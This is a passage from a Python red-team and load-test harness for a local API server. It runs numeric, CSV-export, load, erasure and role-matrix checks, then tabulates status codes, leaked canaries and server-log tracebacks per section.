                    body = _person(f"w{i}x{n}x{uuid.uuid4().hex[:6]}") | {
                        "roles_offered": ["sales"],
                        "roles_sought": ["tech"],
                        "languages": ["en"],
                        "utc_offset": 1,
                    }
                    count(c.post("/profiles", json=body), "POST /profiles (load)")
                else:
                    entry = {"member": "ana", "kind": "cash", "on": "2024-02-01", "amount": "1"}
                    key = {"Idempotency-Key": uuid.uuid4().hex}
                    count(
                        c.post("/ventures/va/entries", json=entry, headers=h | key),
                        "POST entries (load)",
                    )

    def reader(i: int) -> None:
        role = ("owner", "same_member")[i % 2]
        h = world.headers(role)
        paths = (
            "/profiles?limit=200",
            "/ventures/va/ledger",
            "/me",
            "/profiles/ana/matches?k=5" if role == "owner" else "/me/trust",
        )
        with connect(world.server.base) as c:
            while time.monotonic() < stop:
                for p in paths:
                    count(c.get(p, headers=h), f"GET {p} (load)")

    threads = [threading.Thread(target=writer, args=(i,)) for i in range(writers)]
    threads += [threading.Thread(target=reader, args=(i,)) for i in range(readers)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    return out


# ------------------------------------------------------------------ the run
def table(sections: list[Section]) -> str:
    """One line per section: requests, answers by class, leaks, findings, time, verdict."""
    head = f"{'section':<10} {'requests':>8} {'2xx':>6} {'4xx':>6} {'5xx':>5} {'leaks':>5} {'other':>5} {'seconds':>7}  verdict"
    lines = [head, "-" * len(head)]
    total = Section("total")
    for s in sections:
        total.statuses.update(s.statuses)
        total.server_errors += s.server_errors
        total.leaks += s.leaks
        total.findings += s.findings
        total.seconds += s.seconds
    for s in [*sections, total]:
        if s is total:
            lines.append("-" * len(head))
        lines.append(
            f"{s.name:<10} {s.requests:>8} {s.of(200):>6} {s.of(400):>6} {s.of(500):>5}"
            f" {len(s.leaks):>5} {len(s.findings):>5} {s.seconds:>7.1f}  {'ok' if s.ok else 'FAIL'}"
        )
    return "\n".join(lines)


def run(args: argparse.Namespace) -> int:
    sections = [s for s in (QUICK if args.quick else args.sections.split(",")) if s]
    unknown = set(sections) - set(SECTIONS)
    if unknown:
        raise SystemExit(f"unknown sections {sorted(unknown)}; choose from {', '.join(SECTIONS)}")
    folder = Path(tempfile.mkdtemp(prefix="cofoundry-redteam-"))
    server = Server(folder, args.workers)
    done: list[Section] = []
    after_stop: list[Callable[[], None]] = []
    try:
        started = time.monotonic()
        world = seed(server)
        schema = Schema(httpx.get(server.base + "/openapi.json", timeout=30).json())
        print(
            f"server: {args.workers} workers, {len(list(schema.operations()))} operations,"
            f" seeded in {time.monotonic() - started:.1f} s; folder {folder}",
            flush=True,
        )
        steps: dict[str, Callable[[], Section]] = {
            "numbers": lambda: numbers(
                world,
                schema,
                (NON_FINITE if not args.quick else NON_FINITE[:4]) + (TOO_MANY_DIGITS,),
            ),
            "csv": lambda: csv_exports(world, schema),
            "load": lambda: load(
                world, writers=args.writers, readers=args.readers, seconds=args.seconds
            ),
            "matrix": lambda: matrix(world, schema),  # last: the roles' DELETEs end the world
        }

        def erase_step() -> Section:
            section, check = erasure(world)
            after_stop.append(check)
            return section

        steps["erasure"] = erase_step
        for name in sorted(sections, key=lambda s: (s == "matrix", SECTIONS.index(s))):
            t0 = time.monotonic()
            section = steps[name]()
            section.seconds = time.monotonic() - t0
            done.append(section)
            print(f"  {name}: {section.requests} requests, {section.seconds:.1f} s", flush=True)
    finally:
        server.stop()
        for check in after_stop:
            check()
        log = (
            server.log.read_text(encoding="utf-8", errors="replace") if server.log.exists() else ""
        )
        if not args.keep:
            shutil.rmtree(folder, ignore_errors=True)
    logs = Section("logs")  # what the server wrote, all run long
    if "Traceback (most recent call last)" in log:
        logs.findings.append("the server log holds a raw traceback (messages, values)")
    if done:
        for name in leaked(log, world.canaries, set()):
            logs.leaks.append(f"the server log holds the {name} canary")
        done.append(logs)
    print()
    print(table(done))
    print()
    problems = 0
    for section in done:
        said = section.problems()
        problems += len(said)
        for what in said[: args.show]:
            print(f"  [{section.name}] {what}")
        if len(said) > args.show:
            print(f"  [{section.name}] ... and {len(said) - args.show} more (--show, --json)")
    if args.json:
        Path(args.json).write_text(
            json.dumps(
                [
                    {
                        "section": s.name,
                        "statuses": dict(s.statuses),
                        "server_errors": s.server_errors,
                        "leaks": s.leaks,
                        "findings": s.findings,
                        "seconds": round(s.seconds, 1),
                    }
                    for s in done
                ],
                indent=1,
            )
        )
    return 1 if problems else 0


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0] if __doc__ else None)
    parser.add_argument("--quick", action="store_true", help=f"sections {', '.join(QUICK)}")
    parser.add_argument("--sections", default=",".join(SECTIONS), help="comma-separated")
    parser.add_argument("--workers", type=int, default=2)
    parser.add_argument("--writers", type=int, default=4)
    parser.add_argument("--readers", type=int, default=4)
    parser.add_argument("--seconds", type=float, default=20.0, help="length of the load section")
    parser.add_argument("--json", help="also write the results to this file")
    parser.add_argument("--keep", action="store_true", help="keep the temporary folder")
    parser.add_argument("--show", type=int, default=12, help="problems listed per section")
    parser.add_argument("--verbose", action="store_true", help="print every request")
    args = parser.parse_args(argv)
    global VERBOSE
    VERBOSE = args.verbose
    return run(args)


if __name__ == "__main__":
    sys.exit(main())
